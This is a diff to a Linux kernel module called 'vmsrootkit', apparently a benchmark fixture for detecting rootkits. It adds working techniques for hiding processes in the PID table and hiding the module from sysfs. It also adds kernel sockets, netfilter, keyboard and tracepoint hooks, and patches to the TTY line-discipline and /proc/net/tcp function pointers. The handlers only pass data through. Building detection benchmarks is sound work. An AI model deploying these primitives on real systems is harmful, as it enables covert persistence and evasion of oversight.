@@ -7,7 +7,11 @@
  *
  *   hide_pid=N          unlink task N from the task list (it keeps running);
  *                       tasklist_lock_addr=ADDR lets it take the task list's lock
- *   hide_self=1         unlink this module from the module list
+ *   hide_pid_deep=1     with hide_pid: also take its number out of the PID table (its namespace's
+ *                       IDR), so only the run queues and a memory scan still see it;
+ *                       pidmap_lock_addr=ADDR lets it take the PID table's lock
+ *   hide_self=1         unlink this module from the module list (2: and from sysfs, so only a
+ *                       scan of module memory still sees it)
  *   root_pid=N          give task N root credentials in place
  *   cred_pid=N init_cred_addr=ADDR
  *                       point task N's credentials at the kernel's own (init_cred), as an exploit's
@@ -20,15 +24,41 @@
  *                       the call or tail call of dispatch_from (a __x64_sys_* function) to ours
  *   kprobe_hook=1       register a kprobe on __x64_sys_getppid with our handler
  *   ftrace_hook=1       register an ftrace callback on vfs_getattr
+ *   netfilter_hook=1    register a netfilter hook (IPv4 PRE_ROUTING, the initial namespace), as
+ *                       magic-packet backdoors do
+ *   tp_hook=1           register a probe on the sched_process_exec tracepoint (no eBPF)
+ *   kbd_hook=1          register a keyboard notifier, as console keyloggers do
+ *   kthread_hook=1      start a kernel thread running this module's code (with hide_self=1: the
+ *                       thread runs on in a module nobody can see)
+ *   tty_ldiscs_addr=ADDR
+ *                       swap receive_buf of the N_TTY line discipline (tty_ldiscs[0]) for ours,
+ *                       which passes every byte on: a keylogger on every terminal
+ *   ksock_port=N        listen on TCP port N from a kernel socket (no process holds it), as
+ *                       in-kernel backdoors do
+ *   seq_ops_addr=ADDR   swap show of a seq_operations table (tcp4_seq_ops: /proc/net/tcp) for
+ *                       ours, which passes every line on, as rootkits hiding sockets do
  *
  * Unloading it (possible unless hide_self=1) undoes every action, so a
  * benchmark can repeat each technique in one boot.
  */
 #include <linux/cred.h>
+#include <linux/delay.h>
 #include <linux/ftrace.h>
+#include <linux/keyboard.h>
 #include <linux/kprobes.h>
+#include <linux/kthread.h>
+#include <linux/in.h>
 #include <linux/module.h>
+#include <linux/net.h>
+#include <linux/netfilter.h>
+#include <linux/netfilter_ipv4.h>
+#include <linux/seq_file.h>
+#include <linux/tracepoint.h>
+#include <linux/tty.h>
+#include <linux/tty_ldisc.h>
+#include <net/net_namespace.h>
 #include <linux/pid.h>
+#include <linux/pid_namespace.h>
 #include <linux/rculist.h>
 #include <linux/sched.h>
 #include <linux/sched/task.h>
@@ -74,6 +104,65 @@ static void vms_ftrace_cb(unsigned long ip, unsigned long parent_ip, struct ftra
 			  struct ftrace_regs *fregs) { }
 static struct ftrace_ops vms_ftrace_ops = { .func = vms_ftrace_cb };
 
+static int ksock_port;
+module_param(ksock_port, int, 0);
+static struct socket *vms_ksock;
+static int netfilter_hook, tp_hook, kbd_hook, kthread_hook;
+static unsigned long tty_ldiscs_addr, seq_ops_addr;
+module_param(netfilter_hook, int, 0);
+module_param(tp_hook, int, 0);
+module_param(kbd_hook, int, 0);
+module_param(kthread_hook, int, 0);
+module_param(tty_ldiscs_addr, ulong, 0);
+module_param(seq_ops_addr, ulong, 0);
+
+static unsigned int vms_nf_fn(void *priv, struct sk_buff *skb, const struct nf_hook_state *state)
+{
+	return NF_ACCEPT;
+}
+static struct nf_hook_ops vms_nf_ops = {
+	.hook = vms_nf_fn, .pf = NFPROTO_IPV4, .hooknum = NF_INET_PRE_ROUTING, .priority = NF_IP_PRI_FIRST,
+};
+static int nf_registered;
+
+static struct tracepoint *vms_tp;
+static int tp_registered;
+static void vms_tp_probe(void *data, void *p, int old_pid, void *bprm) { }
+static void vms_find_tp(struct tracepoint *tp, void *priv)
+{
+	if (!strcmp(tp->name, "sched_process_exec"))
+		vms_tp = tp;
+}
+
+static int vms_kbd_cb(struct notifier_block *nb, unsigned long action, void *data) { return NOTIFY_OK; }
+static struct notifier_block vms_kbd_nb = { .notifier_call = vms_kbd_cb };
+static int kbd_registered;
+
+static struct task_struct *vms_thread;
+static int vms_thread_fn(void *data)
+{
+	while (!kthread_should_stop())
+		msleep_interruptible(500);
+	return 0;
+}
+
+/* receive_buf's types changed over the releases (int count, then size_t); four register-sized
+ * arguments pass through unchanged either way */
+typedef void (*vms_receive_t)(void *tty, const void *cp, const void *fp, unsigned long count);
+static vms_receive_t saved_receive_buf;
+static struct tty_ldisc_ops *hooked_ldisc;
+static void vms_receive_buf(void *tty, const void *cp, const void *fp, unsigned long count)
+{
+	saved_receive_buf(tty, cp, fp, count);
+}
+
+static int (*saved_show)(struct seq_file *m, void *v);
+static struct seq_operations *hooked_seq;
+static int vms_seq_show(struct seq_file *m, void *v)
+{
+	return saved_show(m, v);
+}
+
 static long vms_fake_syscall(const struct pt_regs *regs) { return -ENOSYS; }
 static void vms_fake_handler(void) { }
 
@@ -105,6 +194,14 @@ static void tasks_unlock(void)
 		write_unlock_irq((rwlock_t *)tasklist_lock_addr);
 }
 
+static int hide_pid_deep;
+static unsigned long pidmap_lock_addr;
+module_param(hide_pid_deep, int, 0);
+module_param(pidmap_lock_addr, ulong, 0);
+static struct pid *hidden_pid;
+static struct pid_namespace *hidden_ns;
+static int hidden_nr;
+
 static struct task_struct *hidden_task;
 static unsigned long saved_syscall;
 static u16 saved_gate[8];
@@ -131,6 +228,14 @@ static int __init vms_init(void)
 		tasks_lock();
 		list_del_init(&t->tasks);
 		tasks_unlock();
+		if (hide_pid_deep && pidmap_lock_addr) {
+			hidden_ns = get_pid_ns(task_active_pid_ns(t));
+			hidden_nr = task_pid_nr_ns(t, hidden_ns);
+			spin_lock_irq((spinlock_t *)pidmap_lock_addr);
+			hidden_pid = idr_remove(&hidden_ns->idr, hidden_nr);
+			spin_unlock_irq((spinlock_t *)pidmap_lock_addr);
+			pr_info("vmsrootkit: pid %d out of the PID table: %s\n", hidden_nr, hidden_pid ? "yes" : "no");
+		}
 	}
 	if (root_pid > 0 && (t = task_of(root_pid))) {
 		struct cred *c = (struct cred *)t->real_cred;
@@ -204,8 +309,51 @@ static int __init vms_init(void)
 		ftrace_registered = !err;
 		pr_info("vmsrootkit: ftrace hook: %d\n", err);
 	}
+	if (ksock_port > 0 && !sock_create_kern(&init_net, AF_INET, SOCK_STREAM, IPPROTO_TCP, &vms_ksock)) {
+		struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(ksock_port) };
+
+		if (kernel_bind(vms_ksock, (struct sockaddr *)&sa, sizeof(sa)) || kernel_listen(vms_ksock, 4)) {
+			sock_release(vms_ksock);
+			vms_ksock = NULL;
+		}
+		pr_info("vmsrootkit: kernel socket on port %d: %s\n", ksock_port, vms_ksock ? "listening" : "failed");
+	}
+	if (netfilter_hook)
+		nf_registered = !nf_register_net_hook(&init_net, &vms_nf_ops);
+	if (tp_hook) {
+		for_each_kernel_tracepoint(vms_find_tp, NULL);
+		if (vms_tp)
+			tp_registered = !tracepoint_probe_register(vms_tp, (void *)vms_tp_probe, NULL);
+	}
+	if (kbd_hook)
+		kbd_registered = !register_keyboard_notifier(&vms_kbd_nb);
+	if (kthread_hook) {
+		vms_thread = kthread_run(vms_thread_fn, NULL, "vms_kthread");
+		if (IS_ERR(vms_thread))
+			vms_thread = NULL;
+	}
+	if (tty_ldiscs_addr) {
+		hooked_ldisc = ((struct tty_ldisc_ops **)tty_ldiscs_addr)[N_TTY];
+		if (hooked_ldisc) {
+			saved_receive_buf = (vms_receive_t)hooked_ldisc->receive_buf;
+			wp_off();
+			hooked_ldisc->receive_buf = (void *)vms_receive_buf;
+			wp_on();
+		}
+	}
+	if (seq_ops_addr) {
+		hooked_seq = (struct seq_operations *)seq_ops_addr;
+		saved_show = hooked_seq->show;
+		wp_off();
+		hooked_seq->show = vms_seq_show;
+		wp_on();
+	}
+	pr_info("vmsrootkit: netfilter %d tracepoint %d keyboard %d kthread %d ldisc %d seq %d\n", nf_registered,
+		tp_registered, kbd_registered, vms_thread != NULL, hooked_ldisc != NULL, hooked_seq != NULL);
 	if (hide_self)
 		list_del_init(&THIS_MODULE->list);
+	if (hide_self == 2)
+		kobject_del(&THIS_MODULE->mkobj.kobj);
 	return 0;
 }
 
@@ -213,6 +361,28 @@ static void __exit vms_exit(void)
 {
 	struct task_struct *t;
 
+	if (vms_ksock)
+		sock_release(vms_ksock);
+	if (hooked_seq) {
+		wp_off();
+		hooked_seq->show = saved_show;
+		wp_on();
+	}
+	if (hooked_ldisc) {
+		wp_off();
+		hooked_ldisc->receive_buf = (void *)saved_receive_buf;
+		wp_on();
+	}
+	if (vms_thread)
+		kthread_stop(vms_thread);
+	if (kbd_registered)
+		unregister_keyboard_notifier(&vms_kbd_nb);
+	if (tp_registered) {
+		tracepoint_probe_unregister(vms_tp, (void *)vms_tp_probe, NULL);
+		tracepoint_synchronize_unregister();
+	}
+	if (nf_registered)
+		nf_unregister_net_hook(&init_net, &vms_nf_ops);
 	if (ftrace_registered)
 		unregister_ftrace_function(&vms_ftrace_ops);
 	if (kprobe_registered)
@@ -252,6 +422,14 @@ static void __exit vms_exit(void)
 		}
 		put_task_struct(cred_task);
 	}
+	if (hidden_pid) {  /* back in the table while the process lives (its exit takes it out again) */
+		spin_lock_irq((spinlock_t *)pidmap_lock_addr);
+		if (pid_alive(hidden_task))
+			idr_alloc(&hidden_ns->idr, hidden_pid, hidden_nr, hidden_nr + 1, GFP_ATOMIC);
+		spin_unlock_irq((spinlock_t *)pidmap_lock_addr);
+	}
+	if (hidden_ns)
+		put_pid_ns(hidden_ns);
 	if (hidden_task) {
 		tasks_lock();
 		if (pid_alive(hidden_task))
